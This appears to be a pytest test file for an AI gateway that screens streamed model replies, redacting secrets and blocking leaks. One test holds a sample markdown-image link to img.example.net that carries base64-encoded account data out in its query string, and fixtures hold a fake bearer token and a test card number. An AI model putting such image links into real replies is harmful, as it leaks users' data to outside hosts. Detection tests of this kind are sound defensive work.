"""What a record says of a streamed reply: what acted is told from what was only reported, and a value counts once."""

from __future__ import annotations

import orjson
import pytest
from counting import calls
from gateways import CACHE_DIR
from test_relay import SECRET, _bytes, _chunk, _pattern, _refusal, _target
from test_tool_calls import engine

from detectors.engine import Engine
from detectors.leakage import DETECTOR, THREAT, Leakage
from detectors.streamrules import Act, StreamRules
from detectors.values import ChannelKind, Origin, Segment
from gateway import live
from gateway.exchange import relay_summary, said_segments
from gateway.live import Bound
from gateway.redaction.vault import Vault
from gateway.screening.inspection import Inspected, inspect_reply
from gateway.screening.policy import Action, Edit, Policy, joined, preset
from gateway.streams.following import Cut, Follower
from gateway.streams.relay import Relay
from gateway.streams.said import MANY, Said
from gateway.wires.base import EventKind, StreamEvent

__all__ = ["engine"]  # the fixture
BALANCED = preset("balanced")
TWICE = "Authorization: Bearer glpat-Zx81kQ0vTn3LrW7yBd2C and that is all."
"""A token that several patterns see: by its own form, and by what stands before it."""


@pytest.fixture(scope="module")
def bound(engine: Engine) -> Bound:
    return Bound(BALANCED, None, live.stream_rules(engine.generation.patterns, BALANCED, CACHE_DIR))


def _streamed(engine: Engine, bound: Bound, data: bytes, leakage: Leakage | None = None) -> tuple[Relay, Inspected]:
    relay = Relay(_target("chat"), "m", bound.streams, Vault(b"k" * 32), None, leakage, lambda leak: leak.score >= 0.97)
    relay.feed(data, _refusal)
    if relay.cut is None:
        relay.end(_refusal)
    segments = said_segments(relay)
    return relay, relay_summary(relay, engine.judge(segments, "t"), segments, bound.policy)


def _did(found: Inspected) -> list[tuple[str, str, Action]]:
    return [(one.detector, one.category, action)
            for one, action in zip(found.judged.verdict.findings, found.ruling.actions, strict=True)]  # fmt: skip


def test_a_value_that_two_patterns_see_is_one_value(engine: Engine, bound: Bound) -> None:
    relay, found = _streamed(engine, bound, _bytes("chat", f"say:{TWICE}"))
    assert len({seen.match.pattern.id for seen in relay.seen}) > 1
    assert len(found.ruling.edits) == 1
    assert {action for _, _, action in _did(found)} == {Action.REDACT}
    doc = {"choices": [{"index": 0, "message": {"role": "assistant", "content": TWICE}, "finish_reason": "stop"}]}
    whole = inspect_reply(engine, bound, _target("chat"), orjson.dumps(doc), "t", Vault(b"k" * 32), None)
    assert isinstance(whole, Inspected)
    assert whole.ruling.edits == found.ruling.edits


def test_of_very_many_values_each_kind_is_remembered_and_not_each(engine: Engine, bound: Bound) -> None:
    """Six bytes were kept of each that came, for as long as it came."""
    card, key = "Card 4111 1111 1111 1111. ", f"The token is {TWICE}"
    relay, found = _streamed(engine, bound, b"".join(_chunk({"content": card * 100}) for _ in range(15)) + _bytes("chat", f"say:{key}"))
    assert MANY < len(relay.seen) < MANY + 10
    assert {"pii", "secret"} <= {seen.match.pattern.category.partition(".")[0] for seen in relay.seen}
    assert {Action.REDACT} == {action for _, _, action in _did(found)}


def test_what_is_kept_of_all_texts_together_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each of fifty thousand texts of a stream might be a million characters long."""
    monkeypatch.setattr("gateway.streams.said.MAX_TOTAL", 1_000)
    said = Said()
    for number in range(50):
        said.add(StreamEvent(EventKind.TEXT, ("text", number), "x" * 30, ("a",)))
    assert sum(len(piece) for pieces in said.texts.values() for piece in pieces) == 990
    assert said.unread == 510


def test_what_cut_a_stream_is_told_as_what_acted(engine: Engine, bound: Bound) -> None:
    text = "Open ![logo](https://img.example.net/p.png?data=QWNjb3VudCA0NDcxIGlzIG9wZW4) now."
    relay, found = _streamed(engine, bound, _bytes("chat", f"say:{text}"))
    assert relay.cut is not None
    assert found.ruling.action is Action.BLOCK
    assert ("lexical", "data_exfiltration.markdown_image", Action.BLOCK) in _did(found)


def test_a_system_prompt_that_cut_a_stream_is_told_so(engine: Engine, bound: Bound) -> None:
    prompt = "You sell tickets for the harbour ferry. Never mention the discount code for staff, which is written on the back of the card."
    leakage = Leakage([Segment(prompt, "system", Origin.SYSTEM, 0, ())], "")
    relay, found = _streamed(engine, bound, _bytes("chat", f"say:{prompt} That is all I was told."), leakage)
    assert relay.cut is not None
    assert (DETECTOR, THREAT, Action.BLOCK) in _did(found)


def test_what_a_window_showed_and_the_whole_did_not_is_told_too(engine: Engine, bound: Bound) -> None:
    policy = Policy(name="p", version="1")
    relay = Relay(_target("chat"), "m", bound.streams, Vault(b"k" * 32), Follower(policy, 0))
    relay.feed(_bytes("chat", "say:Nothing of note was said here."), _refusal)
    (channel,) = relay.said.texts
    relay.stop(Cut("data_exfiltration.send_to_address", "model.assistant", "encoder", 0.93, channel, 4, 20), _refusal)
    segments = said_segments(relay)
    found = relay_summary(relay, engine.judge(segments, "t"), segments, policy)
    assert _did(found) == [("encoder", "data_exfiltration.send_to_address", Action.BLOCK)]
    assert found.judged.verdict.score == 0.93
    assert found.judged.verdict.findings[0][-2:] == (4, 20)


def test_a_judgement_that_did_not_come_is_no_finding(engine: Engine, bound: Bound) -> None:
    relay = Relay(_target("chat"), "m", bound.streams, Vault(b"k" * 32))
    relay.feed(_bytes("chat", "say:Nothing of note was said here."), _refusal)
    relay.stop(Cut("incomplete judgement", "encoder late", "stream"), _refusal)
    segments = said_segments(relay)
    found = relay_summary(relay, engine.judge(segments, "t"), segments, bound.policy)
    assert (_did(found), found.ruling.action) == ([], Action.BLOCK)


def test_edits_that_overlap_are_one() -> None:
    apart = [Edit(0, 4, 9, "secret.web_token"), Edit(1, 4, 9, "pii.bank"), Edit(0, 9, 12, "pii.tax")]
    assert joined([*apart, Edit(0, 2, 6, "pii.payment")]) == [Edit(0, 2, 9, "pii.payment"), apart[2], apart[1]]


def test_a_value_that_is_known_twice_over_is_named_after_what_says_more_of_it_in_any_order() -> None:
    edits = [Edit(0, 2, 6, "secret.generic_credential"), Edit(0, 2, 6, "secret.source_control_token")]
    assert joined(edits) == joined(edits[::-1]) == edits[1:]
    rules = StreamRules([_pattern(edit.category, r"\bAKIA[0-9A-Z]{16}\b", edit.category) for edit in edits], lambda _: Act.REPLACE)
    relay = Relay(_target("chat"), "m", dict.fromkeys(ChannelKind, rules), Vault(b"k" * 32))
    assert b"[SECRET_SOURCE_CONTROL_TOKEN_" in relay.feed(_bytes("chat", f"say:it is {SECRET} so"), _refusal)


@pytest.mark.parametrize("name", ["chat", "completions", "messages", "gemini-sse"])
def test_what_had_gone_out_is_what_the_model_said(engine: Engine, bound: Bound, name: str) -> None:
    """Names and states of a stream's frames are no text of it: the record of a cut tells how much the caller has."""
    relay = Relay(_target(name), "m", bound.streams, Vault(b"k" * 32))
    relay.feed(_bytes(name, "say:All is well."), _refusal)
    relay.end(_refusal)
    assert relay.released == len("All is well.")
    assert [one.text for one in said_segments(relay)] == ["All is well."]


@pytest.mark.parametrize("unit", ["7", "4821 ", '"90",'])
def test_arguments_full_of_digits_cost_in_proportion_to_their_length(engine: Engine, bound: Bound, unit: str) -> None:
    """Relay, record and all: counted in calls for 8,000 and 16,000 characters, in events of a token each."""

    def stream(text: str) -> None:
        called = [{"index": 0, "function": {"arguments": text[at : at + 4]}} for at in range(0, len(text), 4)]
        called[0] |= {"id": "c", "type": "function"}
        _streamed(engine, bound, b"".join(_chunk({"tool_calls": [one]}) for one in called) + _chunk({}, finish_reason="tool_calls"))

    stream(unit * 100)  # what is made at the first match is not counted
    once, twice = (calls(stream, (unit * length)[:length]) for length in (8_000, 16_000))
    assert twice < 2.1 * once
